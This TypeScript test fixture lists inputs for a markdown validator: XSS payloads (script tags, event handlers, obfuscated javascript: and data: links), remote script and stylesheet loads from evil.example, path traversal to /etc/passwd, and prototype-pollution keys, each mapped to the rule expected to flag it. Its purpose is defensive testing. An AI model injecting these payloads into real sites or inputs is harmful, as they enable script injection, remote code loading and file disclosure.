import { prose, shown, type Input } from './input.ts';

const html = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script type=module>import("//evil.example")</script>', '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<b\n>x', '<script', '<x:y', '<!x', '</x y>', 'a<b', '<@x <y', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg/>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<math href="javascript:alert(1)">x</math>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="https://a.example" onclick="alert(1)">x</a>', '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href="//evil.example/x.css">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>', '<plaintext>', '<textarea></textarea><script>alert(1)</script>', '<title></title><script>alert(1)</script>', '<x onclick=alert(1) tabindex=1>x</x>', '<p data-pagefind-filter="kind:Party">x</p>', '<main data-pagefind-body>x</main>',
  '<?xml version="1.0"?>', '<!DOCTYPE html>', '<![CDATA[<script>alert(1)</script>]]>', '</main><script>alert(1)</script>', '<!-- a --><script>alert(1)</script>', '<!-- a --> <img src=x onerror=alert(1)>', '<!-- never closed', '<!--> <script>alert(1)</script> -->', '<b\n class=x>y</b>', '<a\thref=x>x</a>',
];

/** Links that must come to nothing, by the way in which their scheme is spelt. */
const links = [
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)',
  'java&#9;script:alert(1)', 'java&#10;script:alert(1)', 'java&#13;script:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '&#32;javascript:alert(1)', '&#1;javascript:alert(1)', 'javascript\\:alert(1)', '\\javascript:alert(1)',
  'javascript://%0aalert(1)', 'javascript:%61lert(1)', '%6aavascript:alert(1)', '<javascript:alert(1)>', '<java script:alert(1)>', 'vbscript:msgbox(1)', 'VbScRiPt:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg/onload=alert(1)>', 'data&colon;text/html,x', 'file:///etc/passwd', 'blob:https://a.example/x', 'filesystem:x', 'view-source:https://a.example', 'about:blank', 'ftp://a.example', 'ws://a.example', 'tel:123', 'livescript:x', 'mocha:x', 'jar:https://a.example!/x', 'feed:javascript:alert(1)',
  'https:javascript', 'http:/a.example', 'https:\\\\evil.example', '//evil.example', '///evil.example', '\\\\\\\\evil.example', '/\\evil.example', '/etc/passwd', '../../../../../../etc/passwd', '..%2f..%2fetc/passwd', '%2e%2e/mali.md', 'mali.md%00', 'mali.md?x=<script>', './/mali.md/', '', '?', '.', '..', 'MALI.md', 'mali.md.', 'constructor.md', '__proto__.md', '../conflicts/mali/chronology.yaml#__proto__', '../conflicts/mali/chronology.yaml#constructor', '../sources/sources.yaml#toString', '#main', '#"><script>alert(1)</script>',
];

/** Addresses of the web that could end in the midst of a text, or pass for another. */
const addresses = ['https://a.example/"onclick="alert(1)', '<https://a.example/ onclick=alert(1)>', 'https://a.example/\'><script>', 'mailto:a@b.example?subject=<script>', 'https://unhcr.example@evil.example/', 'https://user:pass@evil.example', 'https://evil.example\\@a.example', 'https://', 'http://', 'mailto:'];

const strays = ['[x][y]\n\n[y]: javascript:alert(1)', '![x](javascript:alert(1))', '![x](data:image/svg+xml,<svg/onload=alert(1)>)', '![x][y]\n\n[y]: //evil.example/x.png', 'a[^1]\n\n[^1]: <b>x</b>', '[x]\n\n[x]: <javascript:alert(1)> "t"', '[@rulac', '[@<script>]', '[@rulac" onclick="x]', '[@__proto__]', '[@constructor]', '[@rulac; javascript:alert(1)]', '[^__proto__]: x\n\na[^__proto__]', '- [ ] a box', '- [x] a box'];

const harmless = [
  'www.evil.example', 'a@evil.example', '`<script>alert(1)</script>`', '    <script>alert(1)</script>', '```js" onload="alert(1)\n<script>alert(1)</script>\n```', '~~~</script><script>\nx\n~~~', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>', '<<!-- -->script>alert(1)<<!-- -->/script>', '<!-- a --> <!-- b -->', '<!-- <script>alert(1)</script> -->', '[x](https://a.example "\\" onmouseover=\\"alert(1)")', '[`<script>`](mali.md)', '[**x** <!-- --> y](mali.md)',
  '# <!-- --> <', '## "> \\<img src=x onerror=alert(1)>', '## constructor', '## __proto__', '## main', '## مالي', '## 马里', '## &nbsp;', '##', '| a | b |\n|:-|-:|\n| `<b>` | "x |', '{{constructor.constructor("alert(1)")()}}', '${alert(1)} #{alert(1)} <%= 1 %>', '{% raw %}', '`[@nosuch]`', '`[@rulac]`', '\\[@nosuch\\]', ']]>', '--> -- <', '&#x3c;/script&#x3e;', '%3Cscript%3E', '@import "x"', 'a  \nb', '***', '<', '<3', '< script>', 'a < b > c', '[a]()', '[]()',
];

export const markdown: Input[] = [
  ...html.map((text) => prose(`HTML ${shown(text)}`, text, 'markup')), ...html.slice(0, 12).map((text) => prose(`HTML in a sentence ${shown(text)}`, `Text ${text} text.`, 'markup')),
  ...['> ', '- ', '1. ', '## ', '**', '| a |\n|-|\n| '].map((lead) => prose(`HTML after ${shown(lead)}`, `${lead}<img src=x onerror=alert(1)>`, 'markup', lead.split('\n').length)),
  ...links.map((url) => prose(`link ${shown(url)}`, `A [word](${url}) here.`, url.includes(' ') && !url.startsWith('<') ? undefined : 'link')),
  ...addresses.map((url) => prose(`address ${shown(url)}`, `A [word](${url}) here.`, 'link')), prose('a citation after a bare address that is none', 'One [@rulac].\n\nhttps://a.example and [@ru lac]', 'citation', 3), prose('a tag after a bare address', 'One.\n\nhttps://a.example and <img/src=x onerror=alert(1)>', 'markup', 3), prose('a bare address with a quote', 'https://evil.example/?"onclick=x', 'link'),
  ...strays.map((text) => prose(`mark ${shown(text)}`, text, text.startsWith('!') && !text.startsWith('![x][') || text.startsWith('- [') ? 'markup' : text === '[@__proto__]' ? 'citation' : text === '[@constructor]' ? 'source-exists' : 'citation', text.startsWith('[^') ? 3 : 1)),
  ...harmless.map((text) => prose(`text ${shown(text)}`, text, text === '[a]()' || text === '[]()' ? 'link' : text.startsWith('\\[@') ? 'source-exists' : undefined)),
];
